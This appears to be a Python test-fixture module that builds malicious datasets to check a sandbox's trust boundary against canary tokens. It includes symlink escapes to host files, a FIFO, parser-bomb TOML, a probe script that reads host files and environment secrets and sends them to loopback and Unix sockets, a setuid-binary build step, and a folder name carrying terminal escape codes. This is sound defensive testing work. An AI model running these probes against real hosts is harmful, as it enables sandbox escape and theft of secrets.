"""Malicious datasets, built by code, for the trust-boundary tests.

Every dataset aims at one thing of the host's: the canary file (a random token in a file outside
any dataset), the canary environment variable, or the canary listener on 127.0.0.1. A defence
holds when no token ever shows up in any output, job, registry, package, snapshot, response or
listener, and every refusal is one line with exit 2.

Two kinds:

* ``REFUSED`` — datasets the trust boundary must refuse before anything runs or is written;
* ``RUNNING`` — tasks that pass the boundary (nothing in their files is wrong) and attack from
  inside the sandbox: build steps and verifiers that look for the host's files, variables,
  loopback services and local sockets.
"""

from __future__ import annotations

import os
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.conftest import write_task

TOML = """\
schema_version = "1.4"
[task]
name = "stranger/{name}"
[environment]
network_mode = "no-network"
memory_mb = 512
storage_mb = 512
{extra}
"""


@dataclass(frozen=True)
class Host:
    """What a dataset tries to reach."""

    canary_file: Path
    token: str
    env_name: str
    env_token: str
    listen_port: int
    abstract_name: str
    host_files: tuple[str, ...] = ()
    """Absolute paths of canary files planted in the host's /var and /opt (root only)."""


def _task(root: Path, name: str, *, extra: str = "", **kw: object) -> Path:
    return write_task(root, name, toml=TOML.format(name=name, extra=extra), **kw)  # type: ignore[arg-type]


# ---------------------------------------------------------------------------- refused


def link_instruction(root: Path, host: Host) -> None:
    t = _task(root, "link-instruction", instruction=None)
    (t / "instruction.md").symlink_to(host.canary_file)


def link_test_sh_relative(root: Path, host: Host) -> None:
    t = _task(root, "link-test-sh", test_sh=None)
    (t / "tests").mkdir()
    (t / "tests" / "test.sh").symlink_to(os.path.relpath(host.canary_file, t / "tests"))


def link_dockerfile(root: Path, host: Host) -> None:
    t = _task(root, "link-dockerfile", dockerfile=None)
    (t / "environment").mkdir()
    (t / "environment" / "Dockerfile").symlink_to(host.canary_file)


def link_readme(root: Path, host: Host) -> None:
    t = _task(root, "link-readme")
    (t / "README.md").symlink_to(host.canary_file)


def link_task_toml(root: Path, host: Host) -> None:
    t = _task(root, "link-task-toml")
    (t / "task.toml").unlink()
    (t / "task.toml").symlink_to(host.canary_file.with_name("task.toml"))


def link_environment_dir(root: Path, host: Host) -> None:
    t = _task(root, "link-environment-dir", dockerfile=None)
    (t / "environment").symlink_to(host.canary_file.parent, target_is_directory=True)


def link_folder_in_context(root: Path, host: Host) -> None:
    """A wildcard COPY would follow ``notes`` out of the context."""
    t = _task(root, "wildcard-copy", dockerfile="FROM debian:bookworm\nCOPY note* /x/\n")
    (t / "environment" / "notes").symlink_to(host.canary_file)
    (t / "environment" / "r1").symlink_to(host.canary_file.parent, target_is_directory=True)


def fifo_in_tests(root: Path, host: Host) -> None:
    t = _task(root, "fifo")
    os.mkfifo(t / "tests" / "pipe")


def nested_toml(root: Path, host: Host) -> None:
    t = _task(root, "nested-toml")
    (t / "task.toml").write_text('schema_version = "1.4"\nx = ' + "[" * 5000 + "]" * 5000 + "\n")


def nested_tables(root: Path, host: Host) -> None:
    t = _task(root, "nested-tables")
    (t / "task.toml").write_text(
        'schema_version = "1.4"\n[metadata]\n' + "a = {b = " * 200 + "1" + "}" * 200 + "\n"
    )


def huge_limits(root: Path, host: Host) -> None:
    _task(
        root,
        "huge-limits",
        extra="",
        files={},
    )
    (root / "huge-limits" / "task.toml").write_text(
        'schema_version = "1.4"\n[verifier]\ntimeout_sec = 2000000.0\n'
        "[environment]\nmemory_mb = 104857600000\nstorage_mb = 100663296000\n"
    )


def huge_toml(root: Path, host: Host) -> None:
    t = _task(root, "huge-toml")
    (t / "task.toml").write_text(
        'schema_version = "1.4"\n[metadata]\npad = "' + "x" * (2 << 20) + '"\n'
    )


REFUSED: dict[str, Callable[[Path, Host], None]] = {
    f.__name__: f
    for f in (
        link_instruction,
        link_test_sh_relative,
        link_dockerfile,
        link_readme,
        link_task_toml,
        link_environment_dir,
        link_folder_in_context,
        fifo_in_tests,
        nested_toml,
        nested_tables,
        huge_limits,
        huge_toml,
    )
}


def write_host_task_toml(host: Host) -> None:
    """The host-side file that ``link_task_toml`` points at: a valid task.toml with the token."""
    host.canary_file.with_name("task.toml").write_text(
        f'schema_version = "1.4"\n[task]\ndescription = "{host.token}"\n'
        '[environment]\nnetwork_mode = "no-network"\n'
    )


# ---------------------------------------------------------------------------- running

# Everything a task can try from inside: print what it finds, post it to the host's loopback
# listener and abstract socket. A defence holds when none of it carries a token.
PROBE = """\
import glob, os, socket, sys
found = []
for path in {paths!r} + glob.glob("/etc/pip.conf") + glob.glob("/opt/*"):
    try:
        with open(path, "rb") as fh:
            found.append(path + "=" + fh.read(4096).decode("latin-1"))
    except OSError as exc:
        found.append(path + ": " + type(exc).__name__)
found.append("env=" + os.environ.get({env!r}, "<unset>") + "|" + os.environ.get("CANARY_ALIAS", ""))
blob = "\\n".join(found)
print(blob)
for family, addr in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0" + {abstract!r})):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(addr)
        s.sendall(("{where}:" + blob).encode())
        s.close()
        print("SENT", addr)
    except OSError as exc:
        print("blocked", type(exc).__name__)
"""


def probe_script(host: Host, where: str) -> str:
    paths = [str(host.canary_file), *host.host_files]
    return PROBE.format(
        paths=paths,
        env=host.env_name,
        port=host.listen_port,
        abstract=host.abstract_name,
        where=where,
    )


def running_dataset(root: Path, host: Host) -> Path:
    """Tasks that pass the boundary and attack from inside the sandbox (build and verifier)."""
    probe = probe_script(host, "build")
    build = _task(
        root,
        "probe-build",
        extra='[verifier]\nnetwork_mode = "public"\n',
        dockerfile=(
            "FROM debian:bookworm\nWORKDIR /work\nCOPY probe.py /probe.py\n"
            "RUN python3 /probe.py > /work/build-probe.txt 2>&1; "
            "cp /bin/true /usr/local/bin/suid-true && chmod 4755 /usr/local/bin/suid-true; "
            "true\n"
        ),
        test_sh="#!/bin/bash\ncat /work/build-probe.txt\necho 1 > /logs/verifier/reward.txt\n",
        files={
            "environment/probe.py": probe,
            "solution/solve.sh": "#!/bin/bash\ntrue\n",
        },
    )
    verifier_probe = probe_script(host, "verifier")
    _task(
        root,
        "probe-verifier-env",
        extra=(
            '[verifier]\nnetwork_mode = "public"\n'
            f'[verifier.env]\nCANARY_ALIAS = "${{{host.env_name}}}"\n'
            f'{host.env_name} = "${{{host.env_name}:-}}"\n'
        ),
        dockerfile="FROM debian:bookworm\nWORKDIR /work\n",
        test_sh=(
            "#!/bin/bash\ncat > /tmp/probe.py <<'EOF'\n"
            + verifier_probe
            + "EOF\npython3 /tmp/probe.py\necho 1 > /logs/verifier/reward.txt\n"
        ),
        files={"solution/solve.sh": "#!/bin/bash\ntrue\n"},
    )
    # A folder name with escape codes (retitle the terminal, ring, recolour); task.toml cannot
    # hold raw control characters, so the name shows only through the folder.
    write_task(
        root,
        "escape-\x1b]0;pwned\x07-\x1b[31mred",
        toml=TOML.format(name="escape", extra=""),
        dockerfile="FROM debian:bookworm\nWORKDIR /work\n",
        files={"solution/solve.sh": "#!/bin/bash\ntrue\n"},
    )
    return build.parent


def dedent(text: str) -> str:
    return textwrap.dedent(text).lstrip()
